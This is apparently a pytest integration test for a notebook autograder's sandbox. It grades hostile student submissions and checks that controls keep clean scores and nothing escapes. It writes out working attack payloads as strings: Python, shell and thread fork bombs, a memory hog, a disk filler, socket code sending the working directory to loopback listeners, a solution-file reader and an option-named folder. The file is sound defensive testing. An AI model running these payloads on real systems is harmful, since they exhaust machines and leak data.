"""Issue 17, end to end: a hostile class graded with ``autograder grade -j 2`` beside untouched controls.

The attackers: a /dev/shm and /tmp writer of lab 6's answer and a reader graded after it, a Python fork bomb, a shell
fork bomb, a thread bomb, a memory hog, a disk filler, a sender of UDP / IPv6 / TCP / raw packets to listeners this
test starts, a reader of the instructor's files by path, and an output bomb (issue 28: huge outputs and exceptions,
whose cost to the grader's memory and OUT is measured). Each scores no more than its honest cells earn; the
controls graded beside and after them get exactly their clean scores; nothing reaches the listeners; nothing of the
run is left (processes, /dev/shm files, task cgroups).

The grader runs under a subreaper (tests/autograder_cases/reaper.py) inside a second fence of this test's own: a pids
and memory cgroup, so that a regression fails this test, not the machine.
"""

from __future__ import annotations

import json
import os
import select
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

from autograder.results.csvcells import FORMULA_STARTS
from autograder.run.worker import NAME as WORKER_NAME  # its workers are forks with the grader's command line
from autograder.sandbox import isolation

from autograder_cases import build, reaper
from autograder_cases.fence import Fence

REPO = Path(__file__).resolve().parents[1]
SOLUTIONS = REPO / "solutions" / "loop_lab"
REAPER = Path(__file__).parent / "autograder_cases" / "reaper.py"
AVAILABLE = isolation.probe()
SHM_NAME = f"looplab-answer-{uuid.uuid4().hex[:8]}.py"
FENCE_PIDS, FENCE_MEMORY_MB = 4000, 16384

pytestmark = [
    pytest.mark.autograder, pytest.mark.slow,
    pytest.mark.skipif(len(list(SOLUTIONS.glob("*.ipynb"))) < 9, reason="solutions/ not complete"),
    pytest.mark.skipif(any(AVAILABLE.values()) or os.geteuid() != 0,
                       reason=f"needs root and every isolation layer here: {AVAILABLE}"),
]

WRITE_ANSWER = f'''
import inspect
_answer = inspect.getsource(save_checkpoint) + "\\n" + inspect.getsource(load_checkpoint)
for _folder in ("/dev/shm", "/tmp"):
    try:
        open(_folder + "/{SHM_NAME}", "w").write(_answer)
    except OSError as _exc:
        print("could not leave the answer in", _folder, _exc)
'''
READ_ANSWER = f'''
for _folder in ("/dev/shm", "/tmp"):
    try:
        exec(open(_folder + "/{SHM_NAME}").read())
        print("found an answer in", _folder)
        break
    except OSError:
        pass
'''
PYTHON_FORK_BOMB = '''
import os, time
_kids = 0
try:
    while _kids < 100000:
        if os.fork() == 0:
            time.sleep(300)
            os._exit(0)
        _kids += 1
except OSError as _exc:
    print("fork refused after", _kids, _exc)
'''
SHELL_FORK_BOMB = '''
import subprocess, time
try:
    subprocess.Popen(["/bin/bash", "-c", "b(){ b | b & }; b"])
except OSError as _exc:
    print("no shell:", _exc)
time.sleep(10)
'''
THREAD_BOMB = '''
import threading, time
_threads = []
try:
    while len(_threads) < 100000:
        _t = threading.Thread(target=time.sleep, args=(300,), daemon=True)
        _t.start()
        _threads.append(_t)
except RuntimeError as _exc:
    print("thread refused after", len(_threads), _exc)
'''
MEMORY_HOG = '''
_hog = []
try:
    while True:
        _hog.append(bytearray(256 << 20))
except MemoryError:
    print("memory refused after", len(_hog) * 256, "MB")
del _hog
'''
DISK_FILLER = '''
import os
_written = 0
for _target in ("filler.bin", os.path.join(os.environ.get("HOME", "."), "filler.bin")):
    try:
        with open(_target, "wb") as _f:
            while True:
                _f.write(b"x" * (16 << 20))
                _written += 16
    except OSError as _exc:
        print("disk refused after", _written, "MB:", _exc)
    try:
        os.remove(_target)
    except OSError:
        pass
'''
NETWORK = '''
import socket
for _family, _kind, _where in ((socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @@UDP@@)),
                               (socket.AF_INET6, socket.SOCK_DGRAM, ("::1", @@UDP6@@)),
                               (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @@TCP@@)),
                               (socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0))):
    try:
        _s = socket.socket(_family, _kind)
        _s.settimeout(1)
        if _kind == socket.SOCK_STREAM:
            _s.connect(_where)
            _s.sendall(b"LEAKED " + os.getcwd().encode())
        else:
            _s.sendto(b"LEAKED " + os.getcwd().encode(), _where)
        print("sent to", _where)
    except OSError as _exc:
        print("refused:", _family, _kind, _exc)
'''
OUTPUT_BOMB = '''
import sys
for _ in range(4):  # just under the per-cell limit (2,000,000 characters)
    sys.stdout.write("x" * 490_000)
    sys.stdout.flush()
raise type("E" * (8 << 20), (Exception,), {})("y" * (16 << 20))  # an 8 MB class name, a 16 MB message
'''
HUGE_RAISER = '''
def train_one_epoch(*args, **kwargs):  # what the hidden tests call: its exception quoted in every message
    raise type("E" * (8 << 20), (Exception,), {})("z" * (16 << 20))
'''
BOMB_CELLS = 6  # each near the per-cell limit: together past the notebook's 5,000,000-character budget
BOMB = "j-output-bomb"
OPTION_NAMED = "--j-option"  # a folder named like an option: refused by its name, never renamed (issues 28, 42)
INSTRUCTOR_READER = '''
import glob
for _path in glob.glob("@@SOLUTIONS@@/*.ipynb") + ["@@SOLUTIONS@@/06_checkpointing.ipynb"]:
    try:
        print(open(_path).read()[:100])
        print("READ", _path)
    except OSError as _exc:
        print("refused:", _path, _exc)
'''


class Listeners:
    """UDP (IPv4, IPv6) and TCP listeners on loopback that record anything that reaches them."""

    def __init__(self):
        self.received: list[str] = []
        self.sockets = {"udp": socket.socket(socket.AF_INET, socket.SOCK_DGRAM),
                        "udp6": socket.socket(socket.AF_INET6, socket.SOCK_DGRAM),
                        "tcp": socket.socket(socket.AF_INET, socket.SOCK_STREAM)}
        self.sockets["udp"].bind(("127.0.0.1", 0))
        self.sockets["udp6"].bind(("::1", 0))
        self.sockets["tcp"].bind(("127.0.0.1", 0))
        self.sockets["tcp"].listen(8)
        self.ports = {name: s.getsockname()[1] for name, s in self.sockets.items()}
        self.stopped = False
        self.watcher = threading.Thread(target=self._watch, daemon=True)
        self.watcher.start()

    def _watch(self) -> None:
        while not self.stopped:
            ready, _, _ = select.select(list(self.sockets.values()), [], [], 0.5)
            for s in ready:
                if s.type == socket.SOCK_STREAM:
                    conn, _ = s.accept()
                    self.received.append(f"tcp connection: {conn.recv(200)!r}")
                    conn.close()
                else:
                    self.received.append(f"datagram: {s.recvfrom(200)[0]!r}")

    def close(self) -> None:
        self.stopped = True
        self.watcher.join(5)  # closing a socket under its select() reads as "ready", then fails
        for s in self.sockets.values():
            s.close()


def _students(ports: dict[str, int]) -> list[build.Student]:
    sol = {p.stem: build.nbformat.read(p, as_version=4) for p in SOLUTIONS.glob("0[26]_*.ipynb")}
    rel = {p.stem: build.nbformat.read(p, as_version=4) for p in (REPO / "notebooks").glob("0[26]_*.ipynb")}
    net = NETWORK.replace("@@UDP@@", str(ports["udp"])).replace("@@UDP6@@", str(ports["udp6"])).replace(
        "@@TCP@@", str(ports["tcp"]))

    def attacker(name: str, notebook: str, cell: str, base=None) -> build.Student:
        function = "train_one_epoch" if notebook == "02_scheduler" else "save_checkpoint"
        return build.Student(name, "attacker", {notebook: build.insert_cell((base or sol)[notebook], function, cell)},
                             passing_all=False)

    return [
        build.Student("a-control", "untouched, graded first", {nb: sol[nb] for nb in sol}),
        build.Student("b-shm-writer", "leaves lab 6's answer in /dev/shm and /tmp", {"06_checkpointing": build.insert_cell(
            sol["06_checkpointing"], "load_checkpoint", WRITE_ANSWER, after=True)}, passing_all=False),
        attacker("c-fork-bomb", "02_scheduler", PYTHON_FORK_BOMB),
        attacker("d-shell-fork-bomb", "02_scheduler", SHELL_FORK_BOMB),
        attacker("e-thread-bomb", "02_scheduler", THREAD_BOMB),
        attacker("f-memory-hog", "02_scheduler", MEMORY_HOG),
        attacker("g-disk-filler", "02_scheduler", DISK_FILLER),
        attacker("h-network", "02_scheduler", net),
        build.Student(BOMB, "attacker", {"02_scheduler": _bomb(sol["02_scheduler"])}, passing_all=False),
        attacker("i-instructor-reader", "02_scheduler", INSTRUCTOR_READER.replace("@@SOLUTIONS@@", str(SOLUTIONS)),
                 base=rel),
        build.Student("y-shm-reader", "runs whatever answer it finds in /dev/shm or /tmp", {"06_checkpointing":
                      build.insert_cell(rel["06_checkpointing"], "load_checkpoint", READ_ANSWER, after=True)},
                      zero=True),
        build.Student("z-control", "untouched, graded last", {nb: sol[nb] for nb in sol}),
    ]


def _bomb(nb):
    """Lab 2 with :data:`BOMB_CELLS` output bombs before train_one_epoch and a redefinition of it after."""
    for _ in range(BOMB_CELLS):
        nb = build.insert_cell(nb, "train_one_epoch", OUTPUT_BOMB)
    return build.insert_cell(nb, "train_one_epoch", HUGE_RAISER, after=True)


class PeakMemory:
    """The peak resident memory (VmHWM) of the grader and of its workers (not the kernels, forks of the zygote),
    sampled below the reaper while the class is graded: what a student's output costs the grader itself."""

    def __init__(self, root: int):
        self.root, self.peak_mb, self.stopped = root, {}, False
        self.thread = threading.Thread(target=self._watch, daemon=True)
        self.thread.start()

    def _watch(self) -> None:
        while not self.stopped:
            for p in reaper.below(self.root):
                kind = "worker" if p["comm"] == WORKER_NAME else \
                    "grader" if "-m autograder grade" in p["cmdline"] else None
                if kind:
                    self.peak_mb[kind] = max(self.peak_mb.get(kind, 0), _hwm_mb(p["pid"]))
            time.sleep(0.5)

    def stop(self) -> dict[str, int]:
        self.stopped = True
        self.thread.join(5)
        return dict(self.peak_mb)


def _hwm_mb(pid: int) -> int:
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return 0
    return next((int(line.split()[1]) // 1024 for line in status.splitlines() if line.startswith("VmHWM:")), 0)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("confined-class")
    listeners = Listeners()
    students = _students(listeners.ports)
    build.write_class(students, tmp / "submissions")
    (tmp / "submissions" / OPTION_NAMED).mkdir()
    build.nbformat.write(build.nbformat.read(REPO / "notebooks" / "02_scheduler.ipynb", as_version=4),
                         tmp / "submissions" / OPTION_NAMED / "02_scheduler.ipynb")
    fence = Fence("class", FENCE_PIDS, FENCE_MEMORY_MB)
    command = [sys.executable, "-m", "autograder", "grade", str(tmp / "submissions"), "--out", str(tmp / "out"),
               "-j", "2", "--timeout-cell", "60", "--timeout-notebook", "120", "--require-isolation"]
    proc = subprocess.Popen([*fence.prefix(), sys.executable, str(REAPER), str(tmp / "stdout"), str(tmp / "stderr"),
                             "--", *command], cwd=REPO, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    memory = PeakMemory(proc.pid)
    try:
        ready, _, _ = select.select([proc.stdout], [], [], 1500)
        exited = json.loads(proc.stdout.readline()) if ready else {"returncode": None, "left": []}
        peak_mb = memory.stop()
        stderr = (tmp / "stderr").read_text(errors="replace")
        print(stderr[-5000:])
        yield {"exited": exited, "stderr": stderr, "out": tmp / "out", "students": students,
               "tests": build.load_tests(SOLUTIONS), "received": list(listeners.received), "peak_mb": peak_mb}
    finally:
        memory.stop()
        proc.stdin.close()
        proc.wait(timeout=60)
        listeners.close()
        fence.remove()
        for leftover in (Path("/dev/shm") / SHM_NAME, Path("/tmp") / SHM_NAME):
            leftover.unlink(missing_ok=True)


def _rows(hostile, student: str) -> dict[str, str]:
    return {r["notebook"]: r["score"] for r in build.read_csv(hostile["out"] / "grades.csv")
            if r["student"] == student}


def _clean(hostile, student: str) -> dict[str, str]:
    st = next(s for s in hostile["students"] if s.name == student)
    return {r["notebook"]: r["score"] for r in build.expected_grades([st], hostile["tests"])}


def test_the_run_finishes_with_every_layer(hostile):
    assert hostile["exited"]["returncode"] in (0, 1), hostile["stderr"][-3000:]
    assert "student code confined: Landlock, rlimits, cgroup, scratch, network, pid, user" in hostile["stderr"]


def test_controls_beside_and_after_get_their_clean_scores(hostile):
    for control in ("a-control", "z-control"):
        assert _rows(hostile, control) == _clean(hostile, control), control


def test_an_answer_left_in_shared_memory_reaches_nobody(hostile):
    assert set(_rows(hostile, "y-shm-reader").values()) == {"0"}
    assert not (Path("/dev/shm") / SHM_NAME).exists() and not (Path("/tmp") / SHM_NAME).exists()


def test_no_attacker_scores_more_than_its_honest_cells(hostile):
    solution = _clean(hostile, "z-control")
    for st in hostile["students"]:
        if st.case == "attacker":
            for notebook, score in _rows(hostile, st.name).items():
                limit = solution[notebook] if notebook in st.notebooks else "0"
                assert float(score) <= float(limit), (st.name, notebook, score)
    assert set(_rows(hostile, "i-instructor-reader").values()) == {"0"}


def test_nothing_reaches_the_listeners(hostile):
    assert hostile["received"] == []


def _occupied_task_cgroups() -> dict[str, str]:
    """Task cgroup -> the pids still listed in it (with their state, for the message)."""
    found = {}
    for c in isolation.CONTROLLERS:
        for p in (isolation.CGROUP_ROOT / c).rglob(isolation.CGROUP_PARENT + "/*"):
            pids = (p / "cgroup.procs").read_text().split() if p.is_dir() else []
            if pids:
                found[str(p)] = ", ".join(f"{pid} {_state(pid)}" for pid in pids)
    return found


def _state(pid: str) -> str:
    try:
        return next(line.split(None, 1)[1].strip() for line in Path(f"/proc/{pid}/status").read_text().splitlines()
                    if line.startswith("State:"))
    except (OSError, StopIteration):
        return "(gone)"


def test_nothing_is_left(hostile):
    assert hostile["exited"]["left"] == [], hostile["exited"]["left"]
    # A process that has exited stays listed in its cgroup until the kernel has released its memory, which for the
    # output bomb's gigabyte-sized worker on a loaded machine takes a moment: what is still listed 15 s on was not
    # dying but left behind.
    deadline = time.monotonic() + 15
    while (left := _occupied_task_cgroups()) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert left == {}, f"task cgroups with processes 15 s after the run: {left}"


# Measured grading lab 2 alone (-j 1): a worker peaks at 116 MB for the solution, 323 MB for the bomb (its 50 MB
# messages pass through once), 1,858 MB before the budget; the bomb's files in OUT: 19 MB, 1,075 MB before.
WORKER_PEAK_MB = 800
OUT_PER_STUDENT_MB = 40


def test_an_output_bomb_costs_the_grader_bounded_memory_and_disk(hostile):
    """Issue 28: outputs just under the per-cell limit in six cells, each raising an exception with an 8 MB class
    name and a 16 MB message, and a graded function that raises the same: the notebook's output budget and the
    caps on messages bound what the grader holds and what OUT keeps."""
    print("peak memory (MB):", hostile["peak_mb"])
    assert 0 < hostile["peak_mb"].get("worker", 0) < WORKER_PEAK_MB, hostile["peak_mb"]
    out = hostile["out"]
    bomb = sum(p.stat().st_size for p in out.rglob("*") if p.is_file() and "j-output-bomb" in str(p.relative_to(out)))
    print(f"OUT holds {bomb / (1 << 20):.1f} MB of j-output-bomb's files")
    assert bomb < OUT_PER_STUDENT_MB << 20
    record = json.loads((out / "j-output-bomb.json").read_text())
    assert (out / "j-output-bomb.json").stat().st_size < 200_000
    assert any("output beyond the notebook's" in note for note in record["notebooks"]["02_scheduler"]["notes"])
    assert any("raised EEEE" in t["message"] for t in record["tests"]), [t["message"][:200] for t in record["tests"]]


def test_a_folder_named_like_an_option_makes_no_file_named_so(hostile):
    """A folder ``--j-option``: refused by its name (never renamed into an id, which could be another student's),
    so nothing in OUT starts with '-' (``tar czf x.tgz *`` in OUT/feedback reads no option), grades.csv holds no
    formula, and summary.md names the folder as code."""
    out = hostile["out"]
    dashed = [str(p.relative_to(out)) for p in out.rglob("*") if p.name.startswith("-")]
    assert dashed == [] and (out / "feedback" / BOMB).is_dir() and not (out / "j-option.json").exists()
    cells = [cell for row in build.read_csv(out / "grades.csv") for cell in row.values()]
    assert BOMB in cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "- ` --j-option: not graded: its name is not a valid student id: it starts or ends with '-'" in \
        (out / "summary.md").read_text()
